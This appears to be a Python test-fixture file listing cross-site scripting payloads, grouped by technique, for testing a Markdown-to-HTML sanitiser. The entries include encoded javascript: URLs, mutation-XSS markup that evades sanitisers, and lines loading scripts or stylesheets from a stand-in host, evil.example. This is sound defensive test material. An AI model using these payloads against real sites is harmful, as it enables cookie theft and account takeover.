"""A corpus of XSS payloads for the Markdown → safe-HTML helper, grouped by the trick they use.

Each group is a list of Markdown source texts as a user could type them into a legal page, a
measure or a comment. `XSS_PAYLOADS` is the flat list; `XSS_CASES` pairs every payload with a
readable test id ("<group>-<n>"). Add new payloads to the group they belong to.
"""

# Script elements: plain, mixed case, nested to survive a naive one-pass filter, unclosed,
# with attributes, and inside Markdown constructs that might switch off escaping.
SCRIPT_TAGS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(document.cookie)</sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script src=https://evil.example/x.js></script>",
    "<script>alert(1)",
    "<script\n>alert(1)</script\n>",
    "# Titel <script>alert(1)</script>",
    "- Punkt\n- <script>alert(1)</script>\n",
    "> <script>alert(1)</script>",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | x |",
    "**<script>alert(1)</script>**",
]

# Event-handler attributes on elements that fire them without any click.
EVENT_HANDLERS = [
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x ONERROR=alert(1)>",
    '<img src="x" onerror="alert(1)"/>',
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<iframe onload=alert(1)></iframe>",
    "<input autofocus onfocus=alert(1)>",
    "<a href=https://example.org onmouseover=alert(1)>x</a>",
    "<p onclick=alert(1)>Klick</p>",
    "<div/onpointerenter=alert(1)>x</div>",
]

# javascript: URLs in Markdown links, images, autolinks and reference definitions, with the
# encodings and whitespace that browsers strip or decode before they look at the scheme.
JAVASCRIPT_URLS = [
    "[klick](javascript:alert(1))",
    "[klick](JaVaScRiPt:alert(1))",
    "[klick](jav&#x09;ascript:alert(1))",
    "[klick](jav&#9;ascript:alert(1))",
    "[klick](java&#x0A;script:alert(1))",
    "[klick](&#106;avascript:alert(1))",
    "[klick](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1))",
    "[klick](javascript&#58;alert(1))",
    "[klick](javascript&colon;alert(1))",
    "[klick](%6A%61%76%61%73%63%72%69%70%74:alert(1))",
    "[klick](java%0ascript:alert(1))",
    "[klick](<javascript:alert(1)>)",
    "[klick]( javascript:alert(1))",
    "[klick](\\javascript:alert(1))",
    "[klick](java\u0000script:alert(1))",
    "[klick](\u0001javascript:alert(1))",
    "![bild](javascript:alert(1))",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "[klick][ref]\n\n[ref]: javascript:alert(1)",
    '[klick][ref]\n\n[ref]: <javascript:alert(1)> "Titel"',
    "[klick](javascript://example.org/%0aalert(1))",
    '<a href="&#0000106avascript:alert(1)">x</a>',
    '<a href="javascript&#x3A;alert(1)">x</a>',
]

# Other dangerous schemes: data: documents and SVG images, vbscript:, file:.
OTHER_SCHEMES = [
    "[klick](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[klick](data:text/html,<script>alert(1)</script>)",
    "![bild](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![bild](data:image/png;base64,iVBORw0KGgo=)",
    "[klick](DATA:text/html,alert(1))",
    "[klick](vbscript:msgbox(1))",
    "<vbscript:msgbox(1)>",
    "[klick](file:///etc/passwd)",
]

# Elements that load or run active content: SVG, frames, plugins, forms, meta refresh, base.
ACTIVE_ELEMENTS = [
    "<svg><script>alert(1)</script></svg>",
    '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCc+PC9zdmc+#x"/></svg>',
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)></object>",
    '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "<form action=javascript:alert(1)><button>Senden</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
]

# Style sheets and style attributes (CSS expressions, @import, url()).
STYLES = [
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body { background: url(javascript:alert(1)) }</style>",
    '<div style="width: expression(alert(1))">x</div>',
    '<p style="background-image: url(https://evil.example/track.png)">x</p>',
]

# Comments, CDATA and processing instructions that confuse parsers into switching context.
COMMENTS_AND_CDATA = [
    "<!-- --><script>alert(1)</script> -->",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<!--><svg onload=alert(1)>-->",
]

# Breaking out of attribute values through Markdown link titles and destinations.
ATTRIBUTE_BREAKOUTS = [
    '[x](https://example.org "onmouseover=alert(1)")',
    '[x](https://example.org "" onmouseover="alert(1)")',
    "[x](https://example.org 'a\" onmouseover=\"alert(1)')",
    '[x](https://example.org/"onmouseover="alert(1))',
    "[x](https://example.org/?a=1&quot;onmouseover=&quot;alert(1))",
    '![x" onerror="alert(1)](https://example.org/x.png)',
]

# Backticks and entities nested around HTML, and text that looks like a template expression.
NESTING_AND_TEMPLATES = [
    "`<script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "``<img src=x onerror=alert(1)>``",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "{{ 7*7 }} {% load static %} ${7*7} #{7*7}",
    "[{{ request }}](https://example.org)",
]

# Mutation XSS: markup that a sanitiser and a browser parse differently.
MUTATION_XSS = [
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph>"
    "</table></mtext></math>",
    "<math><mi><a href=javascript:alert(1)>x</a></mi></math>",
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
    '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title><img src=x onerror=alert(1)></title>",
]

XSS_GROUPS = {
    "script": SCRIPT_TAGS,
    "event": EVENT_HANDLERS,
    "javascript-url": JAVASCRIPT_URLS,
    "other-scheme": OTHER_SCHEMES,
    "active-element": ACTIVE_ELEMENTS,
    "style": STYLES,
    "comment-cdata": COMMENTS_AND_CDATA,
    "attribute-breakout": ATTRIBUTE_BREAKOUTS,
    "nesting-template": NESTING_AND_TEMPLATES,
    "mxss": MUTATION_XSS,
}

XSS_PAYLOADS = [payload for payloads in XSS_GROUPS.values() for payload in payloads]

XSS_CASES = [
    (f"{group}-{number}", payload)
    for group, payloads in XSS_GROUPS.items()
    for number, payload in enumerate(payloads, start=1)
]
